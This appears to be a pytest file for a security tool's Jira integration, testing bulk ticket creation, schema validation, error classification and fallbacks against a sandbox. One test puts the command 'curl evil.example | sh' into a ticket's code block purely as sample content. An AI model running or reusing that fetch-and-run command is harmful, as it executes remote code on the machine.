"""JiraProvider.create_tickets against the sandbox: one POST /issue/bulk, each element built as a
single create builds it, one outcome per element classified as a single create's would be."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import jsonschema
import pytest
from jira_samples import RecordingTransport, calls
from openapi_schema_validator import OAS30Validator

from sentineliq.document.model import CodeBlock, Document, Paragraph, Text
from sentineliq.document.schema import adf_schema
from sentineliq.providers.base import (
    BulkCreate,
    BulkTicketProvider,
    CreatedTicket,
    ErrorKind,
    ProviderError,
)
from sentineliq.providers.jira.provider import JiraProvider
from sentineliq.sandbox.jira.openapi import load_spec
from sentineliq.sandbox.jira.seed import TEAM_FIELD
from sentineliq.tickets.draft import Priority, TicketDraft

Make = Callable[..., JiraProvider]
BULK = "/rest/api/3/issue/bulk"
SINGLE = "/rest/api/3/issue"


def draft(summary: str = "Beaconing to a rare domain", **overrides: Any) -> TicketDraft:
    values: dict[str, Any] = {
        "summary": summary,
        "document": Document((Paragraph((Text("Seen from "), Text("10.0.0.7", code=True))),)),
        "priority": Priority.HIGH,
        "labels": ("c2",),
        "link": "https://console.example.test/alerts/1",
        "attributes": {"fingerprint": "fp-1"},
    }
    values.update(overrides)
    return TicketDraft(**values)


def request_schema(path: str) -> OAS30Validator:
    spec = load_spec()
    operation = spec["paths"][path]["post"]
    schema = operation["requestBody"]["content"]["application/json"]["schema"]
    return OAS30Validator({**schema, "components": spec["components"]})


def sent(recorder: RecordingTransport, path: str) -> list[Any]:
    return [body for method, p, body in recorder.sent if method == "POST" and p == path]


def test_the_jira_provider_offers_bulk(make_provider: Make) -> None:
    assert isinstance(make_provider(), BulkTicketProvider)


def test_elements_are_built_exactly_as_single_creates_and_match_the_official_schema(
    make_provider: Make, recorder: RecordingTransport, sandbox: Any
) -> None:
    provider = make_provider(transport=recorder)
    provider.create_ticket(draft(), idempotency_key="one")
    marked: list[str] = []
    outcomes = provider.create_tickets(
        [BulkCreate(draft(), "two"), BulkCreate(draft("Second"), "three")],
        before_send=lambda: marked.append("sent"),
    )
    assert marked == ["sent"]  # once, for the one call
    assert [o.key for o in outcomes if isinstance(o, CreatedTicket)] == ["SEC-2", "SEC-3"]
    (single,) = sent(recorder, SINGLE)
    (bulk,) = sent(recorder, BULK)
    request_schema(BULK).validate(bulk)
    adf = jsonschema.Draft4Validator(adf_schema())
    for element in bulk["issueUpdates"]:
        adf.validate(element["fields"]["description"])
    # The same mapping: only the idempotency key (label and property) tells them apart.
    first = bulk["issueUpdates"][0]
    assert first == _rekeyed(single, "one", "two")
    labels = [issue["fields"]["labels"] for issue in sandbox.issues()]
    assert labels == [["c2", "siq-one"], ["c2", "siq-two"], ["c2", "siq-three"]]


def _rekeyed(body: Any, old: str, new: str) -> Any:
    if isinstance(body, dict):
        return {k: _rekeyed(v, old, new) for k, v in body.items()}
    if isinstance(body, list):
        return [_rekeyed(v, old, new) for v in body]
    renamed = {old: new, f"siq-{old}": f"siq-{new}"}  # the property's value and the label
    return renamed.get(body, body) if isinstance(body, str) else body


def test_a_refused_description_steps_down_for_that_element_alone(
    make_provider: Make, recorder: RecordingTransport, sandbox: Any
) -> None:
    sandbox.set_description_rules(unsupported_nodes=["codeBlock"])
    provider = make_provider(transport=recorder)
    resent: list[str] = []
    with_code = draft("With code", document=Document((CodeBlock("curl evil.example | sh"),)))
    outcomes = provider.create_tickets(
        [
            BulkCreate(draft("Plain"), "a"),
            BulkCreate(with_code, "b", before_resend=lambda: resent.append("b")),
        ]
    )
    plain, reduced = outcomes
    assert isinstance(plain, CreatedTicket)
    assert plain.dropped_fields == ()
    assert isinstance(reduced, CreatedTicket)
    assert reduced.dropped_fields == ("description",)  # the note says "reduced, not left out"
    assert resent == ["b"]  # its repeat alone was marked before it left
    assert len(sent(recorder, BULK)) == 1
    assert len(sent(recorder, SINGLE)) == 1
    assert len(sandbox.issues()) == 2


def test_a_required_field_refused_everywhere_is_required_field_for_each(
    make_provider: Make, sandbox: Any
) -> None:
    provider = make_provider()
    provider.create_tickets([BulkCreate(draft(), "warm")])  # createmeta cached before the change
    sandbox.require_field("SEC", TEAM_FIELD)
    outcomes = provider.create_tickets([BulkCreate(draft(), "x"), BulkCreate(draft(), "y")])
    assert all(isinstance(o, ProviderError) for o in outcomes)
    assert [o.kind for o in outcomes if isinstance(o, ProviderError)] == [
        ErrorKind.REQUIRED_FIELD,
        ErrorKind.REQUIRED_FIELD,
    ]
    assert "Team (customfield_10060)" in str(outcomes[0])
    assert len(sandbox.issues()) == 1


def test_a_refused_link_is_dropped_for_that_element_only(make_provider: Make, sandbox: Any) -> None:
    provider = make_provider()
    outcomes = provider.create_tickets(
        [BulkCreate(draft(), "ok"), BulkCreate(draft(), "linked", relates_to="SEC-404")]
    )
    ok, linked = outcomes
    assert isinstance(ok, CreatedTicket)
    assert ok.dropped_fields == ()
    assert isinstance(linked, CreatedTicket)
    assert linked.dropped_fields == ("issuelinks",)


@pytest.mark.parametrize(
    ("mode", "status", "kind"),
    [
        ("error", 503, ErrorKind.UNAVAILABLE),  # refused up front: nothing was created
        ("error", 500, ErrorKind.AMBIGUOUS),  # may have been applied
        ("error", 429, ErrorKind.RATE_LIMITED),
        ("drop_after_create", 503, ErrorKind.AMBIGUOUS),  # applied, answer lost
    ],
)
def test_a_failure_of_the_whole_call_raises_classified(
    make_provider: Make, sandbox: Any, mode: str, status: int, kind: ErrorKind
) -> None:
    provider = make_provider()
    provider.create_tickets([BulkCreate(draft(), "warm")])
    sandbox.set_fault(mode, status=status, count=1)
    with pytest.raises(ProviderError) as raised:
        provider.create_tickets([BulkCreate(draft(), "a"), BulkCreate(draft(), "b")])
    assert raised.value.kind is kind


def test_more_than_fifty_is_refused_before_anything_is_sent(
    make_provider: Make, sandbox: Any
) -> None:
    with pytest.raises(ValueError, match="50"):
        make_provider().create_tickets([BulkCreate(draft(), f"k{n}") for n in range(51)])
    assert calls(sandbox, "POST", BULK) == 0


def test_fifty_tickets_cost_one_request_once_metadata_is_cached(
    make_provider: Make, sandbox: Any
) -> None:
    provider = make_provider()
    provider.create_ticket(draft(), idempotency_key="warm")
    before = len(sandbox.requests())
    outcomes = provider.create_tickets([BulkCreate(draft(), f"k{n}") for n in range(50)])
    assert all(isinstance(o, CreatedTicket) for o in outcomes)
    assert len(sandbox.requests()) - before == 1
    assert len({o.key for o in outcomes if isinstance(o, CreatedTicket)}) == 50
